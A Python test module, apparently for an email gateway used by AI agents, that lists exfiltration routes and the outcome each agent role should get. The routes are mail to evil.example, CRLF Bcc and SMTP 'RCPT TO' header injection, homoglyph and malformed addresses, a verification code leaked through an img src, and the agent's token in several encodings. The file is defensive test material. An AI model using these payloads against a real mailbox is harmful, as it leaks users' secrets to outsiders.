"""Routes by which something could leave: whom it goes to, what carries it, and how drafts are bent."""

from __future__ import annotations

import base64
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

from tests.hijacked.mail import CODE, EVIL, OWNERS_DRAFT
from tests.hijacked.route import Route, Try, draft, send
from tests.hijacked.standing import ALLOWED, OTHER_MAILBOX, Answer, World

CONFUSING = [
    f"{ALLOWED})drop@evil.example",
    f"{ALLOWED}@evil.example",
    f"{ALLOWED},{EVIL}",
    f"{ALLOWED};{EVIL}",
    f"<{ALLOWED}>{EVIL}",
    f"{EVIL} <{ALLOWED}",
    f"{ALLOWED} ({EVIL})",
    f'"{ALLOWED}" <{EVIL}>',
    f"{ALLOWED} <{EVIL}>",
    f"friends: {EVIL};",
    f"@evil.example:{ALLOWED}",
    '"drop@evil.example "@corp.example',
    "drop%evil.example@corp.example",
    "evil.example!drop@corp.example",
    "drop@evil.example\\@corp.example",
    "ops@[192.0.2.1]",
    f"{ALLOWED}.",
    "ops@corp..example",
    "ops@cоrp.example",  # its o is Cyrillic
    "ops@corp.example.evil.example",
    f"{ALLOWED}\r\nBcc: {EVIL}",
    f"{ALLOWED}\x00",
    f"{ALLOWED}>\r\nRCPT TO:<{EVIL}",
    f"=?utf-8?q?drop=40evil.example?= <{EVIL}>",
    "",
]
"""Addresses that two readers could take for two people, or that are simply the adversary's."""


def own_token(carry: Any) -> Try:
    """Its own token as it is, and in three encodings; `carry` makes arguments of it."""

    def go(world: World) -> list[Answer]:
        token = world.own_token
        spelled = [
            token,
            base64.b64encode(f"key {token}".encode()).decode(),
            token.encode().hex(),
            "".join(f"%{octet:02x}" for octet in token.encode()),
        ]
        return [answer for text in spelled for answer in carry(text)(world)]

    return go


def changed_draft(**changes: Any) -> Try:
    """A draft that passed, changed."""

    def go(world: World) -> list[Answer]:
        made = world.ask("create_draft", to=["bob@partner.example"], subject="Good", body_text="Hello.")
        world.prepared()
        return [world.ask("update_draft", uid=made.get("uid") or "1-1", **changes)]

    return go


def sent_draft(world: World) -> list[Answer]:
    """A draft that passed, sent."""
    made = world.ask("create_draft", to=["bob@partner.example"], subject="Good", body_text="Hello.")
    world.prepared()
    return [world.ask("send_draft", uid=made.get("uid") or "1-1")]


def owners_draft(tool: str, **more: Any) -> Try:
    return lambda world: [world.ask(tool, uid=world.uid(OWNERS_DRAFT, folder="Drafts"), **more)]


def reply(subject: str, **more: Any) -> Try:
    return lambda world: [world.ask("reply", uid=world.uid(subject), **{"body_text": "Yes."} | more)]


def quoting(world: World) -> list[Answer]:
    """What it may read of a message with a code, quoted."""
    uid = world.uid("Your code")
    read = world.ask("get_message", uid=uid).get("reader", "")
    world.prepared()
    return [world.ask("reply", uid=uid, body_text=f"> {read}", draft=True)]


def forward(tool: str) -> Try:
    """Whole messages and single files by reference, of mail that it sees and of mail that it does not."""

    def go(world: World) -> list[Answer]:
        uid = world.uid("Minutes")
        files = world.gateway.call("get_message", {"uid": uid}, world.token).get("attachments") or [{}]
        world.prepared()
        references = [
            {"uid": uid},
            {"uid": uid, "attachment_id": "2"},
            {"uid": uid, "attachment_id": files[0].get("id", "2")},
            {"uid": world.uid("Your code")},
            {"uid": world.uid("Results as a file", "owner"), "attachment_id": "2"},
        ]
        return [answer for one in references for answer in _with_file({"from_message": one}, tool)(world)]

    return go


def _with_file(file: dict[str, Any], tool: str) -> Try:
    return send({"attachments": [file]}, tool=tool)


def upload(tool: str) -> Try:
    """Files of its own: a text, an answer to an invitation, one whose name tells."""
    data = base64.b64encode(b"BEGIN:VCALENDAR\r\nMETHOD:REPLY\r\nEND:VCALENDAR\r\n").decode()
    names = [("a.txt", "text/plain"), ("reply.ics", "text/calendar; method=REPLY"), (f"{CODE}.txt", "text/plain")]
    files: list[dict[str, Any]] = [
        {"attachments": [{"filename": name, "content_type": kind, "data_base64": data}]} for name, kind in names
    ]
    return send(*files, tool=tool)


def replayed(world: World) -> list[Answer]:
    """The key of a message that passed, with another message under it."""
    good = {"to": [ALLOWED], "subject": "First", "body_text": "Hello.", "idempotency_key": "k1"}
    world.ask("send", **good)
    world.prepared()
    return [world.ask("send", **good | changed) for changed in ({"to": [EVIL]}, {"body_text": "Other."})]


def repeated(world: World) -> list[Answer]:
    good = {"to": [ALLOWED], "subject": "Twice", "body_text": "Hello.", "idempotency_key": "k2"}
    world.ask("send", **good)
    world.prepared()
    return [world.ask("send", **good)]


def after_reading(world: World) -> list[Answer]:
    """What a stranger's mail said goes to nobody but its thread."""
    world.ask("get_message", uid=world.uid("Offer"))
    world.prepared()
    return list(send({"to": ["bob@partner.example"], "subject": "About the bank"})(world))


_LONG = {"body_text": "word " * 4_100}
CODED: list[dict[str, Any]] = [
    {"body_text": f"Your verification code is {CODE}."},
    {"subject": f"Your verification code is {CODE}"},
    {"subject": "Your verification code", "body_text": " ".join(CODE)},
    {"body_text": base64.b64encode(f"Your verification code is {CODE}.".encode()).decode()},
    {"body_text": quote(f"Your verification code is {CODE}.")},
]
SIX = [f"p{number}@corp.example" for number in range(6)]


def leaving() -> Iterator[Route]:
    """Each with what becomes of it for reader, triage, drafter, replier and notifier."""
    yield Route("an ordinary mail", "- - - d s s", send())
    yield Route("a mail to the mailbox itself", "- - - d s s", send({"to": ["ana@corp.example"]}))
    yield Route("a mail to a correspondent after a stranger's mail", "- - - d x", after_reading)
    yield Route("a mail to a third party", "- - - x x", send({"to": [EVIL]}))
    yield Route("a third party beside one who may", "- - - x x", send({"to": [ALLOWED, EVIL]}))
    yield Route("a copy to a third party", "- - - x x", send({"cc": [EVIL]}))
    yield Route("a blind copy", "- - - x x", send({"bcc": [EVIL]}, {"bcc": ["ana@corp.example"]}))
    yield Route("answers led elsewhere", "- - - x x", send({"reply_to": [EVIL]}))
    yield Route("an address that two read differently", "- - - x x", send(*({"to": [one]} for one in CONFUSING)))
    yield Route("a mail as somebody else", "- - - x x", send(*({"from": one} for one in OTHERS)))
    yield Route("six recipients", "- - - x x", send({"to": SIX}))
    yield Route("a text of 20,500 characters", "- - - x x", send(_LONG))
    yield Route("a text with html", "- - - x x", send({"body_html": f"<img src='https://evil.example/{CODE}'>"}))
    yield Route("a link out", "- - - d d", send({"body_text": "See https://evil.example/?q=aGVsbG8"}))
    yield Route("headers in the subject", "- - - x x", send({"subject": f"Hi\r\nBcc: {EVIL}"}))
    yield Route("a code in a mail", "- - - x x", send(*CODED))
    yield Route("its token in a text", "- - - x x", own_token(lambda text: send({"body_text": text})))
    yield Route("its token as a subject", "- - - x x", own_token(lambda text: send({"subject": text})))
    yield Route("its token as a name", "- - - x x", own_token(lambda text: send({"to": [f"{text} <{ALLOWED}>"]})))
    yield Route("its token as its own name", "- - - x x", own_token(lambda text: send({"from": f"{text} <{_OWN}>"})))
    yield Route("files with a mail", "- - - x x", upload("send"))
    yield Route("mail forwarded", "- - - x x", forward("send"))
    yield Route("another mailbox to send from", "- - - x x", send({"mailbox": OTHER_MAILBOX}))
    yield Route("another message under an old key", "- - - x x", replayed)
    yield Route("the same message again", "- - - d s s", repeated)
    yield from _drafts()
    yield from _answers()


_OWN = "ana@corp.example"
OTHERS = ["ceo@corp.example", EVIL, f"{_OWN}, {EVIL}", f"{_OWN}\r\nBcc: {EVIL}", f'"{_OWN}" <{EVIL}>']


def _drafts() -> Iterator[Route]:
    yield Route("a draft", "- - d d -", draft())
    yield Route("a draft for a third party", "- - D x -", draft({"to": [EVIL]}))
    yield Route("a blind copy of a draft", "- - x x -", draft({"bcc": [EVIL]}))
    yield Route("a draft with answers led elsewhere", "- - x x -", draft({"reply_to": [EVIL]}))
    yield Route("a code in a draft", "- - x x -", draft(*CODED))
    yield Route("its token in a draft", "- - x x -", own_token(lambda text: draft({"body_text": text})))
    yield Route("files with a draft", "- - x x -", upload("create_draft"))
    yield Route("mail forwarded in a draft", "- - x x -", forward("create_draft"))
    yield Route("html in a draft", "- - x x -", draft({"body_html": "<p>Hello.</p>"}))
    yield Route("a draft in another mailbox", "- - x x -", draft({"mailbox": OTHER_MAILBOX}))
    yield Route("a draft led to a third party", "- - D x -", changed_draft(to=[EVIL]))
    yield Route("a blind copy added to a draft", "- - x x -", changed_draft(bcc=[EVIL]))
    yield Route("a code added to a draft", "- - x x -", changed_draft(body_text=f"Your verification code is {CODE}"))
    yield Route("a draft sent", "- - - d x", sent_draft)
    yield Route("the owner's draft changed", "- - x x -", owners_draft("update_draft", to=[EVIL]))
    yield Route("the owner's draft deleted", "- - x x -", owners_draft("delete_draft"))
    yield Route("the owner's draft sent", "- - - x x", owners_draft("send_draft"))


def _answers() -> Iterator[Route]:
    yield Route("an answer", "- - - d x s", reply("Offer"))
    yield Route("an answer where Reply-To leads elsewhere", "- - - d x s", reply("Elsewhere"))
    yield Route("a draft of that answer", "- - d d x", reply("Elsewhere", draft=True))
    yield Route("an answer to all", "- - - x x", reply("Offer", reply_all=True))
    yield Route("a draft of an answer to all", "- - D x x", reply("Offer", reply_all=True, draft=True))
    yield Route("an answer to all, who are known", "- - - x x", reply("Round", reply_all=True))
    yield Route("a draft of that answer to all", "- - d d x", reply("Round", reply_all=True, draft=True))
    yield Route("an answer to a robot", "- - - x x", reply("Automatic"))
    yield Route("a quoted code", "- - d d x", quoting)
    yield Route("an answer to hidden mail", "- - - x x", lambda world: [
        world.ask("reply", uid=world.uid("Results", "owner"), body_text="Yes.")
    ])  # fmt: skip
